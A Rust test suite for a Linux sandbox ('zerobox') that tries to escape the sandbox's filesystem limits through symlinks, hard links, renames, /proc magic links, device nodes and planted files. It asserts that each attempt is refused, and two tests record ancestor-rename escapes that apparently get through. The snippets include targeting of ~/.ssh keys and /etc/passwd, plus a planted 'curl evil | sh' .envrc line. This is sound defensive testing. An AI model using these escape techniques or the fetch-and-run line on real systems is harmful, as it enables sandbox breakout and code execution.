//! Writes outside the granted paths: plain, through links, renames, /proc
//! magic links, deny rules inside a writable directory, masks.

use std::path::Path;

use crate::common::{real, scratch};
use crate::util::{expect, py, unique, Home};

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_else(|e| format!("<{e}>"))
}

/// Threat: overwrite, truncate, delete or create host files outside any
/// granted path (a project file, /etc). Stopped by: the read-only host
/// mounts (EROFS); Landlock (no write right anywhere) is behind them.
#[test]
fn plain_write_outside_is_refused() {
    let s = scratch();
    let d = real(s.path());
    let f = d.join("f");
    std::fs::write(&f, "orig").unwrap();
    let etc = format!("/etc/zb-escape-{}", unique());
    let f = f.display();
    let d_ = d.display();
    let r = py(
        &d,
        None,
        &[],
        &format!(
            r#"
t("overwrite", lambda: open("{f}", "w").write("pwn"))
t("append", lambda: open("{f}", "a").write("pwn"))
t("truncate", lambda: os.truncate("{f}", 0))
t("chmod", lambda: os.chmod("{f}", 0o777))
t("utime", lambda: os.utime("{f}", (0, 0)))
t("unlink", lambda: os.unlink("{f}"))
t("create", lambda: open("{d_}/new", "w").write("pwn"))
t("mkdir", lambda: os.mkdir("{d_}/dir"))
t("etc", lambda: open("{etc}", "w").write("pwn"))
t("usr_bin", lambda: open("/usr/bin/zb-escape", "w").write("pwn"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    for n in [
        "overwrite",
        "append",
        "truncate",
        "chmod",
        "utime",
        "unlink",
        "create",
        "mkdir",
        "etc",
        "usr_bin",
    ] {
        expect(&r, n, "EROFS");
    }
    assert_eq!(read(&d.join("f")), "orig");
    assert!(!d.join("new").exists() && !d.join("dir").exists());
    assert!(!Path::new(&etc).exists());
    assert!(!Path::new("/usr/bin/zb-escape").exists());
}

/// Threat: plant (or find) a symlink in a writable directory that points
/// outside it and write through it. Stopped by: path resolution ends on the
/// read-only host mount (EROFS); Landlock grants write only beneath the
/// writable directory's inode, not the target's.
#[test]
fn symlink_in_writable_dir_does_not_reach_outside() {
    let (ws, os_) = (scratch(), scratch());
    let (w, o) = (real(ws.path()), real(os_.path()));
    std::fs::write(o.join("target"), "orig").unwrap();
    std::os::unix::fs::symlink(o.join("target"), w.join("pre")).unwrap();
    let wa = format!("--allow-write={}", w.display());
    let (w_, o_) = (w.display(), o.display());
    let r = py(
        &w,
        None,
        &[&wa],
        &format!(
            r#"
t("control", lambda: open("{w_}/ok", "w").write("ok"))
t("symlink", lambda: os.symlink("{o_}/target", "{w_}/link"))
t("via_new_link", lambda: open("{w_}/link", "w").write("pwn"))
t("via_host_link", lambda: open("{w_}/pre", "a").write("pwn"))
t("dangling", lambda: os.symlink("{o_}/newfile", "{w_}/dang"))
t("via_dangling", lambda: open("{w_}/dang", "w").write("pwn"))
t("dirlink", lambda: os.symlink("{o_}", "{w_}/dl"))
t("via_dirlink", lambda: open("{w_}/dl/x", "w").write("pwn"))
t("mkdir_via_dirlink", lambda: os.mkdir("{w_}/dl/newdir"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    for n in ["control", "symlink", "dangling", "dirlink"] {
        expect(&r, n, "OK");
    }
    for n in [
        "via_new_link",
        "via_host_link",
        "via_dangling",
        "via_dirlink",
        "mkdir_via_dirlink",
    ] {
        expect(&r, n, "EROFS");
    }
    assert_eq!(read(&o.join("target")), "orig");
    assert!(!o.join("newfile").exists());
    assert!(!o.join("x").exists() && !o.join("newdir").exists());
    assert_eq!(read(&w.join("ok")), "ok");
}

/// Threat: hard-link an outside file into the writable directory (by path,
/// or through /proc/self/fd with AT_SYMLINK_FOLLOW) and write it there.
/// Stopped by: the writable directory is its own bind mount, and link(2)
/// across mounts is EXDEV; Landlock's REFER right is the second wall.
#[test]
fn hardlink_of_outside_file_is_refused() {
    let (ws, os_) = (scratch(), scratch());
    let (w, o) = (real(ws.path()), real(os_.path()));
    std::fs::write(o.join("target"), "orig").unwrap();
    let wa = format!("--allow-write={}", w.display());
    let (w_, o_) = (w.display(), o.display());
    let r = py(
        &w,
        None,
        &[&wa],
        &format!(
            r#"
t("link", lambda: os.link("{o_}/target", "{w_}/hl"))
fd = os.open("{o_}/target", os.O_RDONLY)
t("link_procfd", lambda: os.link(f"/proc/self/fd/{{fd}}", "{w_}/hl2"))
t("link_etc", lambda: os.link("/etc/passwd", "{w_}/passwd"))
t("control", lambda: (open("{w_}/a", "w").write("a"), os.link("{w_}/a", "{w_}/b")))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    for n in ["link", "link_procfd", "link_etc"] {
        expect(&r, n, "EXDEV");
    }
    expect(&r, "control", "OK");
    assert!(!w.join("hl").exists() && !w.join("hl2").exists() && !w.join("passwd").exists());
    assert_eq!(read(&o.join("target")), "orig");
}

/// Threat: rename a parent of the writable directory (or the directory
/// itself, or move a file out of it) to change what the host sees at a
/// path. Stopped by: the parent lives on the read-only host mount (EROFS);
/// moving out crosses a mount (EXDEV).
#[test]
fn rename_parent_of_writable_dir_is_refused() {
    let ps = scratch();
    let p = real(ps.path());
    let w = p.join("w");
    std::fs::create_dir(&w).unwrap();
    std::fs::write(w.join("f"), "orig").unwrap();
    let wa = format!("--allow-write={}", w.display());
    let p_ = p.display();
    let r = py(
        &w,
        None,
        &[&wa],
        &format!(
            r#"
t("rename_parent", lambda: os.rename("{p_}", "{p_}-moved"))
t("rename_wdir", lambda: os.rename("{p_}/w", "{p_}/w2"))
t("move_out", lambda: os.rename("{p_}/w/f", "{p_}/f"))
t("rmdir_wdir", lambda: os.rmdir("{p_}/w"))
t("control", lambda: os.rename("{p_}/w/f", "{p_}/w/g"))
t("control_back", lambda: os.rename("{p_}/w/g", "{p_}/w/f"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    expect(&r, "rename_parent", "EROFS");
    expect(&r, "rename_wdir", "EROFS");
    expect(&r, "move_out", "EXDEV");
    expect(&r, "rmdir_wdir", "EROFS");
    expect(&r, "control", "OK");
    expect(&r, "control_back", "OK");
    assert!(w.is_dir() && !p.join("w2").exists() && !p.join("f").exists());
    assert!(!Path::new(&format!("{}-moved", p.display())).exists());
    assert_eq!(read(&w.join("f")), "orig");
}

/// Threat: reach the host filesystem through /proc/self/root (a magic link
/// that bypasses path-based checks in some sandboxes). Stopped by: it is
/// the sandbox's own root, with the same read-only mounts (EROFS).
#[test]
fn proc_self_root_is_the_sandbox_root() {
    let (ws, os_) = (scratch(), scratch());
    let (w, o) = (real(ws.path()), real(os_.path()));
    std::fs::write(o.join("target"), "orig").unwrap();
    let wa = format!("--allow-write={}", w.display());
    let (w_, o_) = (w.display(), o.display());
    let r = py(
        &w,
        None,
        &[&wa],
        &format!(
            r#"
t("target", lambda: open("/proc/self/root{o_}/target", "w").write("pwn"))
t("create", lambda: open("/proc/self/root{o_}/new", "w").write("pwn"))
t("etc", lambda: open("/proc/self/root/etc/zb-escape", "w").write("pwn"))
t("thread_self", lambda: open("/proc/thread-self/root{o_}/target", "w").write("pwn"))
t("control", lambda: open("/proc/self/root{w_}/ok", "w").write("ok"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    for n in ["target", "create", "etc", "thread_self"] {
        expect(&r, n, "EROFS");
    }
    expect(&r, "control", "OK");
    assert_eq!(read(&o.join("target")), "orig");
    assert!(!o.join("new").exists() && !Path::new("/etc/zb-escape").exists());
}

/// Threat: use another process's root or cwd magic link (/proc/PPID/cwd,
/// /proc/1/root: PID 1 is zerobox's init, which holds capabilities in the
/// sandbox's user namespace and sees the same tree) to write outside.
/// Stopped by: ptrace access checks on /proc/PID/{root,cwd} (the command
/// has no capabilities, init has) and Landlock's ptrace scoping (init is
/// outside the command's domain): EACCES.
#[test]
fn proc_pid_root_and_cwd_of_init_are_unreachable() {
    let os_ = scratch();
    let o = real(os_.path());
    std::fs::write(o.join("target"), "orig").unwrap();
    let o_ = o.display();
    let r = py(
        &o,
        None,
        &[],
        &format!(
            r#"
pp = os.getppid()
p("ppid", pp)
t("ppid_cwd_write", lambda: open(f"/proc/{{pp}}/cwd/pwn", "w").write("pwn"))
t("ppid_cwd_list", lambda: os.listdir(f"/proc/{{pp}}/cwd"))
t("init_root_write", lambda: open("/proc/1/root{o_}/target", "w").write("pwn"))
t("init_root_read", lambda: open("/proc/1/root/etc/hostname").read())
t("init_cwd", lambda: os.listdir("/proc/1/cwd"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    expect(&r, "ppid", "1");
    for n in [
        "ppid_cwd_write",
        "ppid_cwd_list",
        "init_root_write",
        "init_root_read",
        "init_cwd",
    ] {
        expect(&r, n, "EACCES");
    }
    assert_eq!(read(&o.join("target")), "orig");
    assert!(!o.join("pwn").exists());
}

/// Threat: write a `--deny-write` path inside an `--allow-write` directory
/// (overwrite, create, delete, chmod, rename it away, hard-link it out).
/// Stopped by: the read-only bind over the denied path (EROFS; EBUSY for
/// renaming the mount point; EXDEV for links), Landlock behind it.
#[test]
fn deny_write_inside_allow_write_holds() {
    let ws = scratch();
    let w = real(ws.path());
    std::fs::create_dir(w.join("ro")).unwrap();
    std::fs::write(w.join("ro/f"), "orig").unwrap();
    let wa = format!("--allow-write={}", w.display());
    let wd = format!("--deny-write={}", w.join("ro").display());
    let w_ = w.display();
    let r = py(
        &w,
        None,
        &[&wa, &wd],
        &format!(
            r#"
t("overwrite", lambda: open("{w_}/ro/f", "w").write("pwn"))
t("create", lambda: open("{w_}/ro/new", "w").write("pwn"))
t("unlink", lambda: os.unlink("{w_}/ro/f"))
t("chmod", lambda: os.chmod("{w_}/ro/f", 0o777))
t("rename_dir", lambda: os.rename("{w_}/ro", "{w_}/ro2"))
t("rmdir", lambda: os.rmdir("{w_}/ro"))
t("link_out", lambda: os.link("{w_}/ro/f", "{w_}/hl"))
t("read", lambda: open("{w_}/ro/f").read())
t("control", lambda: open("{w_}/ok", "w").write("ok"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    for n in ["overwrite", "create", "unlink", "chmod"] {
        expect(&r, n, "EROFS");
    }
    expect(&r, "rename_dir", "EBUSY");
    expect(&r, "rmdir", "EBUSY");
    expect(&r, "link_out", "EXDEV");
    expect(&r, "read", "OK");
    expect(&r, "control", "OK");
    assert_eq!(read(&w.join("ro/f")), "orig");
    assert!(!w.join("ro/new").exists() && !w.join("ro2").exists() && !w.join("hl").exists());
}

/// Threat: create a denied path that does not exist yet inside a writable
/// directory (plant `D/newsecret`, or files under it), or find a
/// zerobox-made placeholder in the user's tree. Stopped by: nothing is
/// created in the user's tree; what the command creates at a protected
/// name is moved aside after the run (`NAME.zerobox-quarantine-T`) and the
/// user is told (see docs/threat-model.md, "Protected paths that do not
/// exist").
#[test]
fn denied_missing_path_under_writable_dir_is_quarantined() {
    let ds = scratch();
    let d = real(ds.path());
    let wa = format!("--allow-write={}", d.display());
    let dr = format!(
        "--deny-read={},{}",
        d.join("newsecret").display(),
        d.join("a/b").display()
    );
    let d_ = d.display();
    let r = py(
        &d,
        None,
        &[&wa, &dr],
        &format!(
            r#"
p("before", sorted(os.listdir("{d_}")))
t("file", lambda: open("{d_}/newsecret", "w").write("pwn"))
t("nested", lambda: os.makedirs("{d_}/a/b/c"))
t("control", lambda: open("{d_}/ok", "w").write("ok"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    expect(&r, "before", "[]");
    expect(&r, "control", "OK");
    assert!(!d.join("newsecret").exists(), "{r:?}");
    assert!(!d.join("a/b").exists(), "{r:?}");
    let names: Vec<String> = std::fs::read_dir(&d)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        names
            .iter()
            .any(|n| n.starts_with("newsecret.zerobox-quarantine-")),
        "{names:?}"
    );
    assert!(
        r.stderr.contains(&format!("{d_}/newsecret was created")),
        "{r:?}"
    );
    assert!(r.stderr.contains(&format!("{d_}/a/b was created")), "{r:?}");
    assert_eq!(read(&d.join("ok")), "ok");
}

/// Threat: delete, rename away or replace a masked secret (file or
/// directory) when its parent is writable (`--allow-write=~`), so the host
/// loses it or gets a planted copy. Stopped by: the mask is a mount point
/// (EBUSY for unlink/rename/rename-over) and read-only (EROFS for writes and
/// for unlinking inside a masked directory, which is empty anyway).
#[test]
fn masked_paths_cannot_be_renamed_or_unlinked() {
    let home = Home::new();
    let h = home.path();
    let wa = format!("--allow-write={}", h.display());
    let h_ = h.display();
    let r = py(
        &h,
        Some(&h),
        &[&wa],
        &format!(
            r#"
t("rmdir_ssh", lambda: os.rmdir("{h_}/.ssh"))
t("unlink_key", lambda: os.unlink("{h_}/.ssh/id_rsa"))
t("rename_ssh", lambda: os.rename("{h_}/.ssh", "{h_}/x"))
t("rename_aws", lambda: os.rename("{h_}/.aws", "{h_}/.aws2"))
t("unlink_hist", lambda: os.unlink("{h_}/.bash_history"))
t("rename_hist", lambda: os.rename("{h_}/.bash_history", "{h_}/h2"))
open("{h_}/planted", "w").write("pwn")
t("rename_over_hist", lambda: os.rename("{h_}/planted", "{h_}/.bash_history"))
t("write_hist", lambda: open("{h_}/.bash_history", "w").write("pwn"))
t("plant_key", lambda: open("{h_}/.ssh/id_rsa", "w").write("pwn"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    for n in [
        "rmdir_ssh",
        "rename_ssh",
        "rename_aws",
        "unlink_hist",
        "rename_hist",
        "rename_over_hist",
    ] {
        expect(&r, n, "EBUSY");
    }
    expect(&r, "unlink_key", "EROFS");
    expect(&r, "write_hist", "EROFS");
    expect(&r, "plant_key", "EROFS");
    home.assert_no_leak(&r);
    home.assert_host_intact();
    assert!(!h.join("x").exists() && !h.join(".aws2").exists() && !h.join("h2").exists());
}

/// Threat: rename an ANCESTOR of a masked path (not the mount point itself:
/// Linux allows renaming a directory that merely contains mounts) inside a
/// writable directory, recreate the denied path and write it. The real
/// secret is moved away on the host and attacker content sits at the
/// denied path (e.g. `--allow-write=~` with `~/.config/gcloud` or
/// `~/.docker/config.json` denied). Expected to be stopped by: the mount
/// layer (it is not: the rename succeeds) and Landlock (in namespace mode a
/// writable directory gets full rights, so it does not either).
#[test]

fn rename_ancestor_of_masked_path_cannot_plant_denied_path() {
    let ds = scratch();
    let d = real(ds.path());
    std::fs::create_dir_all(d.join("sub/secret")).unwrap();
    std::fs::write(d.join("sub/secret/key"), "REAL").unwrap();
    let wa = format!("--allow-write={}", d.display());
    let dr = format!("--deny-read={}", d.join("sub/secret").display());
    let d_ = d.display();
    let r = py(
        &d,
        None,
        &[&wa, &dr],
        &format!(
            r#"
t("rename_ancestor", lambda: os.rename("{d_}/sub", "{d_}/sub2"))
t("recreate", lambda: os.makedirs("{d_}/sub/secret"))
t("plant", lambda: open("{d_}/sub/secret/key", "w").write("PLANTED"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        read(&d.join("sub/secret/key")),
        "REAL",
        "the denied path was rewritten on the host:\n{r:?}"
    );
    assert!(!d.join("sub2").exists(), "the denied path was moved: {r:?}");
}

/// Threat: the same ancestor rename against a `--deny-write` path (a
/// read-only bind inside a writable dir): move its parent away, recreate
/// the path writable, and write it. Expected to be stopped by: the mount
/// layer and Landlock (neither does in namespace mode).
#[test]

fn rename_ancestor_of_deny_write_path_cannot_rewrite_it() {
    let ds = scratch();
    let d = real(ds.path());
    std::fs::create_dir_all(d.join("sub/ro")).unwrap();
    std::fs::write(d.join("sub/ro/config"), "ORIG").unwrap();
    let wa = format!("--allow-write={}", d.display());
    let dw = format!("--deny-write={}", d.join("sub/ro").display());
    let d_ = d.display();
    let r = py(
        &d,
        None,
        &[&wa, &dw],
        &format!(
            r#"
t("direct", lambda: open("{d_}/sub/ro/config", "w").write("PWN"))
t("rename_ancestor", lambda: os.rename("{d_}/sub", "{d_}/sub2"))
t("recreate", lambda: os.makedirs("{d_}/sub/ro"))
t("rewrite", lambda: open("{d_}/sub/ro/config", "w").write("PWN"))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    expect(&r, "direct", "EROFS");
    assert_eq!(
        read(&d.join("sub/ro/config")),
        "ORIG",
        "the write-denied path was rewritten on the host:\n{r:?}"
    );
}

/// Threat: write the host's disks or memory through device nodes (an
/// existing /dev/vda, /dev/mem, or a node made with mknod). Stopped by: the
/// minimal /dev (host block devices absent: ENOENT) and mknod of devices
/// needs CAP_MKNOD in the initial user namespace (EPERM); /tmp is nodev.
#[test]
fn raw_devices_are_unreachable() {
    let s = scratch();
    let d = real(s.path());
    let mut host_devs: Vec<String> = Vec::new();
    for dev in [
        "/dev/vda",
        "/dev/sda",
        "/dev/nvme0n1",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/port",
    ] {
        if Path::new(dev).exists() {
            host_devs.push(dev.to_string());
        }
    }
    let r = py(
        &d,
        None,
        &[],
        &format!(
            r#"
import stat
for dev in {host_devs:?}:
    p("exists" + dev, os.path.exists(dev))
t("mknod_blk", lambda: os.mknod("/tmp/blk", stat.S_IFBLK | 0o600, os.makedev(8, 0)))
t("mknod_chr", lambda: os.mknod("/tmp/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)))
t("mknod_shm", lambda: os.mknod("/dev/shm/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)))
p("devs", sorted(os.listdir("/dev")))
"#
        ),
    );
    assert_eq!(r.code, 0, "{r:?}");
    for dev in &host_devs {
        expect(&r, &format!("exists{dev}"), "False");
    }
    for n in ["mknod_blk", "mknod_chr", "mknod_shm"] {
        expect(&r, n, "EPERM");
    }
}

/// Threat: a project under /tmp (or any policy path there) is bound into
/// the private /tmp; on main it inherited the private /tmp's write right,
/// so `touch "$PWD/x"` created x on the host. Stopped by: host paths under
/// /tmp get exactly the policy's access (read-only unless granted).
#[test]
fn project_under_tmp_is_read_only_unless_granted() {
    let s = tempfile::Builder::new()
        .prefix("zb-tmp-")
        .tempdir_in("/tmp")
        .unwrap();
    let d = real(s.path());
    // The unprivileged user must be able to use it too.
    std::fs::set_permissions(&d, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    std::fs::create_dir(d.join("sub")).unwrap();
    std::fs::set_permissions(
        d.join("sub"),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let sub = d.join("sub");
    let sub_ro = format!("--allow-read={}", sub.display());
    let r = py(
        &d,
        None,
        &[&sub_ro],
        &format!(
            r#"
t("cwd", lambda: open("{d}/x", "w").write("pwn"))
t("allow_read", lambda: open("{sub}/y", "w").write("pwn"))
t("private_tmp", lambda: open("/tmp/zb-own", "w").write("ok"))
"#,
            d = d.display(),
            sub = sub.display()
        ),
    );
    expect(&r, "cwd", "EROFS");
    expect(&r, "allow_read", "EROFS");
    expect(&r, "private_tmp", "OK");
    assert!(!d.join("x").exists() && !sub.join("y").exists());
    // Granted: writable, as the policy says.
    let r = py(
        &d,
        None,
        &["--allow-write=."],
        &format!(
            r#"t("granted", lambda: open("{}/z", "w").write("ok"))"#,
            d.display()
        ),
    );
    expect(&r, "granted", "OK");
    assert!(d.join("z").exists());
}

/// Threat (multi-run, `.git/hooks -> ../.githooks`): the protected path is
/// a symlink inside the writable project. On main only the target was
/// protected: run 1 replaced the link with a real directory holding a
/// hook, which then ran on the host. Stopped by: the link itself is
/// protected (pinned: EBUSY on unlink and rename), and so is its target.
#[test]
fn protected_symlink_in_writable_project_cannot_be_replaced() {
    let s = scratch();
    let d = real(s.path());
    std::fs::create_dir_all(d.join(".git")).unwrap();
    std::fs::create_dir_all(d.join(".githooks")).unwrap();
    std::os::unix::fs::symlink("../.githooks", d.join(".git/hooks")).unwrap();
    let d_ = d.display();
    for run in 0..2 {
        let r = py(
            &d,
            None,
            &["--allow-write=.", "--deny-write=.git/hooks"],
            &format!(
                r#"
t("unlink", lambda: os.unlink("{d_}/.git/hooks"))
t("rename", lambda: os.rename("{d_}/.git/hooks", "{d_}/.git/h2"))
t("rename_git", lambda: os.rename("{d_}/.git", "{d_}/.git2"))
t("hook_via_link", lambda: open("{d_}/.git/hooks/pre-commit", "w").write("pwn"))
t("hook_in_target", lambda: open("{d_}/.githooks/pre-commit", "w").write("pwn"))
"#
            ),
        );
        assert_eq!(r.code, 0, "run {run}: {r:?}");
        expect(&r, "unlink", "EBUSY");
        expect(&r, "rename", "EBUSY");
        expect(&r, "rename_git", "EBUSY");
        expect(&r, "hook_via_link", "EROFS");
        expect(&r, "hook_in_target", "EROFS");
        let m = std::fs::symlink_metadata(d.join(".git/hooks")).unwrap();
        assert!(m.file_type().is_symlink(), "run {run}: link replaced");
        assert!(!d.join(".githooks/pre-commit").exists());
    }
    // The Landlock-only fallback has no mounts: the link's directory gets
    // no write right of its own (EACCES), the target none at all.
    let r = crate::util::sh_fallback(
        &d,
        None,
        &["--allow-write=.", "--deny-write=.git/hooks"],
        "rm .git/hooks; mv .git .git2; echo pwn > .git/hooks/pre-commit; echo done",
    );
    assert!(r.stdout.contains("done"), "{r:?}");
    let m = std::fs::symlink_metadata(d.join(".git/hooks")).unwrap();
    assert!(m.file_type().is_symlink(), "fallback: link replaced: {r:?}");
    assert!(!d.join(".githooks/pre-commit").exists(), "{r:?}");
}

/// Threat (multi-run): a granted path reached through a symlink the
/// command can rewrite (`~/.claude.json -> ~/.claude/x` with `~/.claude`
/// writable; `--allow-unix-socket=./run/app.sock`). Run 1 re-points the
/// link (to `~/.ssh/id_rsa`); run 2's grant would then open the secret.
/// Stopped by: a grant through a symlink that lives in a writable place
/// is refused (exit 2, naming the link); nothing runs.
#[test]
fn grant_through_a_replaceable_symlink_is_refused() {
    // A generic tool's state (`~/.claude.json` itself is also guarded by
    // protect::agent_state, which makes a linked one read-only instead).
    let home = Home::new();
    let h = home.path();
    std::fs::create_dir_all(h.join(".tool")).unwrap();
    std::fs::write(h.join(".tool/x"), "{}").unwrap();
    std::os::unix::fs::symlink(h.join(".tool/x"), h.join(".tool.json")).unwrap();
    let grants = ["--allow-write=~/.tool", "--allow-write=~/.tool.json"];
    // Run 1 (the link's target is a plain file): it runs, and re-points
    // the file inside the writable grant to the key.
    let r1 = crate::util::sh(
        &h,
        Some(&h),
        &grants,
        "rm ~/.tool/x && ln -s ~/.ssh/id_rsa ~/.tool/x && echo planted",
    );
    assert_eq!(r1.stdout, "planted\n", "{r1:?}");
    // Run 2: refused before anything runs.
    let r2 = crate::util::sh(&h, Some(&h), &grants, "cat ~/.tool.json; echo ran");
    assert_eq!(r2.code, 2, "{r2:?}");
    assert!(!r2.stdout.contains("ran"), "{r2:?}");
    assert!(r2.stderr.contains(".tool/x"), "the link is named: {r2:?}");
    home.assert_no_leak(&r2);
    // The same through a unix socket grant.
    let r3 = crate::util::sh(
        &h,
        Some(&h),
        &["--allow-write=.", "--allow-unix-socket=./.tool/x"],
        "echo ran",
    );
    assert_eq!(r3.code, 2, "{r3:?}");
    home.assert_host_intact();
}

/// Threat (issue: placeholders leak): zerobox's placeholders for missing
/// protected paths showed in `git status`, were committed by `git add -A`
/// inside the run, turned `.envrc` or `.git/config` into directories and
/// stayed after `kill -9`. Stopped by: no placeholder at all. During and
/// after a run `git status` shows only what the command wrote; a killed
/// run's creation is quarantined by the next run, which says so.
#[test]
fn no_zerobox_artifact_in_the_users_tree_during_after_or_after_kill() {
    if !crate::common::have("git") {
        crate::common::skip("no git");
        return;
    }
    let home = Home::new();
    let h = home.path();
    let s = scratch();
    let d = real(s.path());
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(&d)
            .env("HOME", &h)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    git(&["init", "-q", "."]);
    let args = ["--profile", "protect-shell", "--allow-write=."];
    let r = crate::util::sh(
        &d,
        Some(&h),
        &args,
        "git status --porcelain --ignored; git add -A; git status --porcelain; echo end",
    );
    assert_eq!(r.stdout, "end\n", "zerobox artifacts seen inside: {r:?}");
    assert_eq!(git(&["status", "--porcelain", "--ignored"]), "", "after");
    // kill -9 while the command holds a planted .envrc.
    let quarantined = |d: &Path| {
        std::fs::read_dir(d).unwrap().flatten().any(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with(".envrc.zerobox-quarantine-")
        })
    };
    let mut c = crate::common::zerobox();
    let mut child = c
        .current_dir(&d)
        .env("HOME", &h)
        .args(args)
        .args(["--", "sh", "-c", "echo 'curl evil | sh' > .envrc; sleep 30"])
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    assert!(crate::util::wait_until(
        std::time::Duration::from_secs(10),
        || d.join(".envrc").exists() || quarantined(&d)
    ));
    child.kill().unwrap();
    child.wait().unwrap();
    // The killed run's journal is still there for the next run.
    let journals = h.join(".local/share/zerobox/guards");
    let count = || std::fs::read_dir(&journals).map(|r| r.count()).unwrap_or(0);
    assert_eq!(count(), 1, "the killed run left no journal");
    // The next run (any command) handles it.
    let r = crate::util::sh(&d, Some(&h), &[], "true");
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(count(), 0, "the journal was not handled: {r:?}");
    assert!(
        !d.join(".envrc").exists(),
        "planted .envrc left active: {r:?}"
    );
    assert!(quarantined(&d), "{r:?}");
    let status = git(&["status", "--porcelain"]);
    assert!(status.contains(".envrc.zerobox-quarantine-"), "{status}");
}

/// A home with zerobox's guard journal directory, a scratch project, and
/// that directory.
fn guard_journals() -> (Home, tempfile::TempDir, std::path::PathBuf) {
    let home = Home::new();
    let journals = home.path().join(".local/share/zerobox/guards");
    std::fs::create_dir_all(&journals).unwrap();
    (home, scratch(), journals)
}

/// A path as a guard journal spells it (hex of its bytes).
fn journal_hex(p: &Path) -> String {
    use std::os::unix::ffi::OsStrExt;
    p.as_os_str()
        .as_bytes()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A killed run's journal: what its command created at a protected name
/// is quarantined by the next run, which names the killed run. (Made by
/// hand here: the watcher normally moves the name during the run, before
/// any kill can happen.)
#[test]
fn killed_runs_journal_is_handled_by_the_next_run() {
    let (home, s, journals) = guard_journals();
    let (h, d) = (home.path(), real(s.path()));
    let since = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        - 5;
    let envrc = d.join(".envrc");
    let hexpath = journal_hex(&envrc);
    // pid 0 never names a live run.
    std::fs::write(
        journals.join("0.json"),
        format!(r#"{{"pid":0,"start":0,"since":{since},"paths":["{hexpath}"]}}"#),
    )
    .unwrap();
    std::fs::write(&envrc, "curl evil | sh\n").unwrap();
    let r = crate::util::sh(&d, Some(&h), &[], "true");
    assert_eq!(r.code, 0, "{r:?}");
    assert!(!envrc.exists(), "{r:?}");
    assert!(
        r.stderr
            .contains("by an earlier zerobox run (pid 0) that was killed"),
        "{r:?}"
    );
    assert!(!journals.join("0.json").exists());
}

/// Threat: a killed run's journal that cannot be read (cut short by a
/// full disk, damaged) was deleted without a word, so what that run's
/// command planted at a protected name (an `.envrc` direnv runs) stayed
/// unchecked. Stopped by: such a journal is kept and named on every run
/// until the user removes it; a journal whose check could not be done is
/// kept for the next run.
#[test]
fn an_unreadable_guard_journal_is_kept_and_named() {
    let (home, s, journals) = guard_journals();
    let (h, d) = (home.path(), real(s.path()));
    let cut = journals.join("0.json");
    std::fs::write(&cut, r#"{"pid":0,"start":0,"since":17"#).unwrap();
    for _ in 0..2 {
        let r = crate::util::sh(&d, Some(&h), &[], "true");
        assert_eq!(r.code, 0, "{r:?}");
        assert!(cut.exists(), "the damaged journal was dropped: {r:?}");
        let line = r
            .stderr
            .lines()
            .find(|l| l.contains(&*cut.to_string_lossy()))
            .unwrap_or_else(|| panic!("the damaged journal is not named: {r:?}"));
        assert!(line.contains("remove it"), "no fix named: {line}");
    }
    std::fs::remove_file(&cut).unwrap();
    // A journal naming a path that cannot be checked now stays for the
    // next run: one in root's home, which a plain user's zerobox (CI's
    // unprivileged pass) cannot look into; root can, so the case above is
    // root's.
    if crate::util::is_root() {
        return;
    }
    let hexpath = journal_hex(Path::new("/root/.envrc"));
    let journal = journals.join("0.json");
    std::fs::write(
        &journal,
        format!(r#"{{"pid":0,"start":0,"since":0,"paths":["{hexpath}"]}}"#),
    )
    .unwrap();
    let r = crate::util::sh(&d, Some(&h), &[], "true");
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("cannot check a protected path"), "{r:?}");
    assert!(
        journal.exists(),
        "a journal not fully checked was dropped: {r:?}"
    );
}

/// Threat: two runs in one project at once: on main, A's cleanup removed
/// the placeholder under B's mask and B then created a real `.envrc` on the
/// host. Stopped by: no shared placeholder; each run guards the name
/// itself, and a name created by either is quarantined with a warning.
#[test]
fn two_concurrent_runs_cannot_plant_a_protected_path() {
    let s = scratch();
    let d = real(s.path());
    let args = ["--profile", "protect-shell", "--allow-write=."];
    let mut a = crate::common::zerobox();
    let a = a
        .current_dir(&d)
        .args(args)
        .args(["--", "sh", "-c", "sleep 2; ls -a; echo 'evil-a' > .envrc"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let d2 = d.clone();
    let b = std::thread::spawn(move || {
        std::thread::sleep(std::time::Duration::from_millis(300));
        crate::util::sh(&d2, None, &args, "echo 'evil-b' > .envrc; ls -a")
    });
    let a = crate::common::Run::from(a.wait_with_output().unwrap());
    let b = b.join().unwrap();
    assert_eq!(a.code, 0, "{a:?}");
    assert_eq!(b.code, 0, "{b:?}");
    assert!(!d.join(".envrc").exists(), "{a:?}\n{b:?}");
    let quarantined = std::fs::read_dir(&d)
        .unwrap()
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with(".envrc.zerobox-quarantine-")
        })
        .count();
    assert!(quarantined >= 1, "{a:?}\n{b:?}");
}

